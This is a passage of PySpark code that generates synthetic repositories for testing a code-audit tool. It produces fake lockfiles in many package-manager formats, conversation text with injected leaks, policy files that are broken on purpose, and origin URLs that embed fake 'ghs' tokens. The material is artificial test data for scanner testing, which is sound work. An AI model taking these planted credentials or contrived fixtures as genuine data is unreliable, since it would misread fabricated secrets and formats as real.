    of = lambda flag: f"filter(x, e -> {flag})"
    toml = "concat('version = 3\n\n', " + each("concat('[[package]]\nname = \"', e.n, '\"\nversion = \"', e.v, '\"\ndescription = \"d\"\n')", "\n") \
        + ", '\n[metadata]\nversion = \"9.9\"\n')"
    pins = lambda flag: f"to_json(map_from_entries(transform({of(flag)}, e -> struct(e.n, struct(concat('==', e.v) as version)))))"
    text = {
        "yarn.lock": "concat('# yarn lockfile v1\n\n\n', " + each(
            "concat('\"', e.n, '@^1.0.0\", ', e.n, '@1.x:\n  version \"', e.v, '\"\n  resolved \"https://r.test/x.tgz\"\n  dependencies:\n    other \"^2.0.0\"\n')", "\n") + ")",
        "pnpm-lock.yaml": "concat('lockfileVersion: 5.4\n\npackages:\n\n', " + each("concat('  /', e.n, '/', e.v, ':\n    resolution: {integrity: sha512-x}\n    dev: false\n')", "\n") + ")",
        "poetry.lock": toml, "uv.lock": toml, "Cargo.lock": toml,
        "Pipfile.lock": f"concat('{{\"_meta\": {{\"hash\": {{}}}}, \"default\": ', {pins('not e.dev')}, ', \"develop\": ', {pins('e.dev')}, '}}')",
        "go.mod": "concat('module a.test/m\n\ngo 1.22\n\nrequire (\n', " + each("concat('\t', 'git.test/', e.n, ' v', e.v, if(e.dev, ' // indirect', ''), '\n')") + ", ')\n')",
        "Gemfile.lock": "concat('GEM\n  remote: https://gems.test/\n  specs:\n', " + each("concat('    ', e.n, ' (', e.v, ')\n      other (>= 1.0)\n')")
                        + ", '\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  other\n')",
        "bun.lock": "concat('{ // bun\n  \"lockfileVersion\": 1,\n  \"workspaces\": {\"\": {\"dependencies\": {', array_join(transform("
                    + of("not e.dev") + ", e -> concat('\"', e.n, '\": \"^1.0.0\", ')), ''), '}, }, },\n  \"packages\": {\n', "
                    + each("concat('    \"', e.n, '\": [\"', e.n, '@', e.v, '\", \"\", {}, \"sha512-//x\"],\n')") + ", '  },\n}\n')",
        "requirements-dev.txt": "concat('# tools\n-r requirements.txt\n', " + each("concat(e.n, ' == ', e.v, '  # pin\n')") + ", 'loose>=1.0\n')"}
    k = F.col("l_orderkey") % len(LOCK_FORMATS)
    path, content = F.lit(None).cast("string"), F.lit(None).cast("string")
    for i, (name, _, _) in enumerate(LOCK_FORMATS):
        path, content = F.when(k == i, name).otherwise(path), F.when(k == i, F.expr(text[name])).otherwise(content)
    return file_columns(order.select(F.concat(F.lit("order-"), F.col("l_orderkey").cast("string")).alias("repo_id"),
                                     path.alias("path"), content.alias("content")))


def conversations_to_adds(conversations: DataFrame) -> DataFrame:
    """Row-wise mapping of conversation turns to added text (usable on a stream)."""
    c = with_leaks(conversations.select("conv_id", "turn", "role", "text"))
    return c.select(F.concat(F.lit("team-"), (F.col("conv_id") % 5).cast("string")).alias("repo_id"),
                    F.substring(F.sha1(F.col("conv_id").cast("string")), 1, 8).alias("sha"),
                    F.concat(F.col("role"), F.lit("/notes.md")).alias("path"), F.col("text").alias("added"),
                    F.timestamp_seconds(F.lit(1_700_000_000) + F.col("conv_id") * 60 + F.col("turn")).alias("committed"))


def repos_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``repos`` stand-in: one repository per page host; hosts of pages whose id
    is a multiple of 9 carry a token in their https origin URL."""
    p = read(spark, sf_dir, "pages").select("page_id", _host().alias("host"))
    h = p.groupBy("host").agg(F.min("page_id").alias("k"))
    url = F.when(F.col("k") % 9 == 0, F.concat(F.lit("https://ci-bot:ghs"), F.sha1(F.col("host")), F.lit("@"),
                                               F.col("host"), F.lit("/app.git"))) \
        .otherwise(F.concat(F.lit("https://"), F.col("host"), F.lit("/app.git")))
    return h.select(F.col("host").alias("repo_id"), url.alias("origin_url"))


def tracked_from_raw(raw: DataFrame) -> DataFrame:
    """Every walked path is in the git index (the stand-in trees are clean checkouts)."""
    return raw.select("repo_id", "path")


def policy_files_from_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Policy files, one per repo (user), written as JSON text by Spark; every
    ninth user's file has a defect (bad level, wrong type or broken JSON).
    The text records the user's event count (an extra key the validator
    ignores), so it is computed after the per-user aggregate."""
    u = read(spark, sf_dir, "events").groupBy("user_id").agg(F.count(F.lit(1)).alias("n"))
    k = F.col("user_id") % 9
    good = F.to_json(F.struct(
        F.col("n").alias("observed_events"),
        F.when(F.col("user_id") % 4 == 0, "high").when(F.col("user_id") % 4 == 1, "medium")
         .when(F.col("user_id") % 4 == 2, "never").alias("fail_on"),
        F.create_map(F.lit("config/view"), F.lit("high")).alias("severity"),
        F.array(F.lit("deps/signup")).alias("ignore"),
        F.array(F.concat(F.lit("src/module_"), (F.col("user_id") % 10).cast("string"), F.lit("*"))).alias("ignore_paths")))
    content = (F.when(k == 4, F.lit('{"fail_on": "catastrophic"}'))
               .when(k == 5, F.lit('{"ignore_paths": [1, 2]}'))
               .when(k == 6, F.lit("{not json"))
               .otherwise(good))
    return u.select(F.concat(F.lit("repo-"), F.col("user_id").cast("string")).alias("repo_id"),
                    F.lit(".codeaudit-policy.json").alias("path"), content.alias("content"))


def license_files_from_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A root ``LICENSE`` file per source: the text of its lowest-id document
    that names a licence or reserves rights."""
    d = read(spark, sf_dir, "documents").select("doc_id", "source", "text")
    lic = d.filter(F.col("text").contains("icense") | F.col("text").contains("rights reserved"))
    first = lic.groupBy("source").agg(F.min_by("text", "doc_id").alias("content"))
    return file_columns(first.select(F.col("source").alias("repo_id"), F.lit("LICENSE").alias("path"), "content"))
